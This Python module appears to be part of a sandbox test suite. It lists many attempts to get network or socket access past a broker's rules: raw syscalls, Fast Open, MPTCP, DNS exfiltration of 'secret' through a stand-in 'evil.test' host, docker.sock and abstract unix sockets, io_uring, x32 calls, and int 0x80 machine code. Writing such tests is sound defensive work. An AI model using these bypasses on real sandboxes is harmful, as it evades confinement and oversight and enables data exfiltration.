"""The network and local sockets, past the broker."""

from __future__ import annotations

import ctypes
import ctypes.util
import os
import socket
import struct
from typing import Any

from .attempt import attempt, hold
from .raw import library, machine_code, syscall

_FAST_OPEN = 0x20000000
_MPTCP = 262


def _address(port: int) -> bytes:
    return struct.pack("=HH4s8x", socket.AF_INET, socket.htons(port), socket.inet_aton("127.0.0.1"))


def _unix_address(path: bytes) -> bytes:
    return struct.pack("=H", socket.AF_UNIX) + path


def _raw_socket(family: int, kind: int, protocol: int = 0) -> int:
    return syscall("socket", family, kind, protocol)


@attempt("TCP", sees="network tcp", quick=True)
def tcp(f: Any) -> Any:
    hold(socket.create_connection(("127.0.0.1", f.tcp), 2))


@attempt("TCP", sees="network tcp", quick=True)
def tcp_raw(f: Any) -> Any:
    syscall("connect", _raw_socket(socket.AF_INET, socket.SOCK_STREAM), _address(f.tcp), 16)


@attempt("TCP", sees="network tcp")
def tcp_library(f: Any) -> Any:
    descriptor = library.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
    if descriptor < 0 or library.connect(descriptor, _address(f.tcp), 16) < 0:
        raise OSError(ctypes.get_errno(), "refused")
    hold(descriptor)


@attempt("TCP", sees="network tcp6")
def tcp_version_6(f: Any) -> Any:
    hold(socket.create_connection(("::1", f.tcp6), 2))


@attempt("TCP", sees="network tcp")
def tcp_mapped_raw(f: Any) -> Any:
    address = struct.pack("=HHI16sI", socket.AF_INET6, socket.htons(f.tcp), 0, bytes(10) + b"\xff\xff\x7f\0\0\1", 0)
    syscall("connect", _raw_socket(socket.AF_INET6, socket.SOCK_STREAM), address, len(address))


@attempt("TCP", sees="descriptor socket:TCP")
def listen(f: Any) -> Any:
    hold(socket.create_server(("127.0.0.1", 0)))


@attempt("TCP", sees="descriptor socket:TCP")
def listen_unbound_raw(f: Any) -> Any:
    """listen() without bind() takes a free port, which no rule about bind sees."""
    syscall("listen", _raw_socket(socket.AF_INET, socket.SOCK_STREAM), 1)


@attempt("TCP", sees="network tcp")
def tcp_disguised_pair(f: Any) -> Any:
    """A pair of sockets is granted: is connect on one of them?"""
    pair = socket.socketpair()
    hold(pair)
    tcp_raw_connect = library.connect(pair[0].fileno(), _address(f.tcp), 16)
    if tcp_raw_connect < 0:
        hold(socket.create_connection(("127.0.0.1", f.tcp), 2))


@attempt("MSG_FASTOPEN", sees="network tcp", quick=True)
def fast_open(f: Any) -> Any:
    with socket.socket() as sender:
        sender.sendto(b"x", _FAST_OPEN, ("127.0.0.1", f.tcp))
        hold(sender.dup())


@attempt("MSG_FASTOPEN", sees="network tcp", quick=True)
def fast_open_raw(f: Any) -> Any:
    descriptor = _raw_socket(socket.AF_INET, socket.SOCK_STREAM)
    syscall("sendto", descriptor, b"x", 1, _FAST_OPEN, _address(f.tcp), 16)


@attempt("MPTCP/SCTP", sees="network tcp", quick=True)
def mptcp(f: Any) -> Any:
    sender = socket.socket(socket.AF_INET, socket.SOCK_STREAM, _MPTCP)
    hold(sender)
    sender.connect(("127.0.0.1", f.tcp))


@attempt("MPTCP/SCTP", sees="network tcp")
def mptcp_raw(f: Any) -> Any:
    syscall("connect", _raw_socket(socket.AF_INET, socket.SOCK_STREAM, _MPTCP), _address(f.tcp), 16)


@attempt("MPTCP/SCTP", sees="descriptor socket:")
def sctp(f: Any) -> Any:
    hold(_raw_socket(socket.AF_INET, socket.SOCK_STREAM, 132))


@attempt("UDP DNS exfil", sees="network udp", quick=True)
def udp(f: Any) -> Any:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"secret", ("127.0.0.1", f.udp))


@attempt("UDP DNS exfil", sees="network udp")
def udp_raw(f: Any) -> Any:
    descriptor = _raw_socket(socket.AF_INET, socket.SOCK_DGRAM)
    syscall("sendto", descriptor, b"secret", 6, 0, _address(f.udp), 16)


@attempt("UDP DNS exfil", sees="network udp6")
def udp_version_6(f: Any) -> Any:
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"secret", ("::1", f.udp6))


@attempt("UDP DNS exfil", sees="network dns")
def dns_packet(f: Any) -> Any:
    question = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x06secret\x04evil\0\0\x01\0\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(question, ("127.0.0.1", 53))


@attempt("getaddrinfo exfil through the shim", sees="network dns", quick=True)
def resolve(f: Any) -> Any:
    socket.getaddrinfo("secret.evil.test", 80)


@attempt("getaddrinfo exfil through the shim", sees="network dns")
def resolve_by_host(f: Any) -> Any:
    socket.gethostbyname("secret.evil.test")


@attempt("getaddrinfo exfil through the shim", sees="network dns")
def resolve_library(f: Any) -> Any:
    found = ctypes.c_void_p()
    library.getaddrinfo(b"secret.evil.test", b"80", None, ctypes.byref(found))
    raise OSError(0, "no answer")


@attempt("getaddrinfo exfil through the shim", sees="network dns", net=True)
def resolve_with_a_net_right(f: Any) -> Any:
    socket.getaddrinfo("secret.evil.test", 80)


def _opens(name: str, family: int, kind: int, protocol: int = 0) -> None:
    def python(f: Any) -> Any:
        hold(socket.socket(family, kind, protocol))

    def raw(f: Any) -> Any:
        syscall("socket", family, kind, protocol)

    for act, its_name in ((python, f"socket_{name}"), (raw, f"socket_{name}_raw")):
        act.__name__ = its_name
        attempt("raw/packet/netlink/vsock/alg sockets", sees="descriptor socket:")(act)


_opens("raw", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
_opens("packet", socket.AF_PACKET, socket.SOCK_RAW, 0)
_opens("netlink", socket.AF_NETLINK, socket.SOCK_RAW, 0)
_opens("vsock", socket.AF_VSOCK, socket.SOCK_STREAM)
_opens("alg", socket.AF_ALG, socket.SOCK_SEQPACKET)
_opens("bluetooth", 31, socket.SOCK_RAW)
_opens("xdp", 44, socket.SOCK_RAW)


@attempt("pathname unix socket (docker.sock)", sees="network unix", quick=True)
def unix(f: Any) -> Any:
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(f.unix)
        hold(client.dup())


@attempt("pathname unix socket (docker.sock)", sees="network unix", quick=True)
def unix_raw(f: Any) -> Any:
    address = _unix_address(os.fsencode(f.unix) + b"\0")
    syscall("connect", _raw_socket(socket.AF_UNIX, socket.SOCK_STREAM), address, len(address))


@attempt("pathname unix socket (docker.sock)", sees="network granted unix")
def unix_in_a_granted_folder(f: Any) -> Any:
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(f.granted_unix)
        hold(client.dup())


@attempt("abstract socket", sees="network abstract", quick=True)
def abstract(f: Any) -> Any:
    with socket.socket(socket.AF_UNIX) as client:
        client.connect("\0" + f.abstract)
        hold(client.dup())


@attempt("abstract socket", sees="network abstract")
def abstract_raw(f: Any) -> Any:
    address = _unix_address(b"\0" + f.abstract.encode())
    syscall("connect", _raw_socket(socket.AF_UNIX, socket.SOCK_STREAM), address, len(address))


@attempt("DGRAM socketpair sendto", sees="network datagram", quick=True)
def datagram_pair(f: Any) -> Any:
    socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b"x", f.datagram)


@attempt("DGRAM socketpair sendto", sees="network datagram", quick=True)
def datagram_pair_raw(f: Any) -> Any:
    pair = (ctypes.c_int * 2)()
    syscall("socketpair", socket.AF_UNIX, socket.SOCK_DGRAM, 0, pair)
    address = _unix_address(os.fsencode(f.datagram) + b"\0")
    syscall("sendto", pair[0], b"x", 1, 0, address, len(address))


@attempt("DGRAM socketpair sendto", sees="network datagram")
def datagram_pair_message(f: Any) -> Any:
    socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendmsg([b"x"], [], 0, f.datagram)


@attempt("DGRAM socketpair sendto", sees="network datagram")
def stream_or_datagram_message(f: Any) -> Any:
    """With the pair that is granted first, and then whatever can be had."""
    try:
        socket.socketpair()[0].sendmsg([b"x"], [], 0, f.datagram)
    except OSError:
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sender:
            sender.sendmsg([b"x"], [], 0, f.datagram)


@attempt("io_uring", sees="descriptor [io_uring]", quick=True)
def io_uring_raw(f: Any) -> Any:
    hold(syscall("io_uring_setup", 4, ctypes.create_string_buffer(120)))


@attempt("io_uring", sees="asynchronous io")
def old_asynchronous_io_raw(f: Any) -> Any:
    syscall("io_setup", 1, ctypes.create_string_buffer(8))


@attempt("int 0x80", sees="descriptor socket:", quick=True)
def socket_by_interrupt(f: Any) -> Any:
    """socket(AF_INET, SOCK_DGRAM, 0) in the 32-bit convention, call 359."""
    code = b"\x53\xb8\x67\x01\0\0\xbb\x02\0\0\0\xb9\x02\0\0\0\x31\xd2\xcd\x80\x48\x98\x5b\xc3"
    machine_code(code)


@attempt("x32", sees="descriptor socket:", quick=True)
def socket_by_x32_raw(f: Any) -> Any:
    syscall(0x40000000 | 41, socket.AF_INET, socket.SOCK_DGRAM, 0)
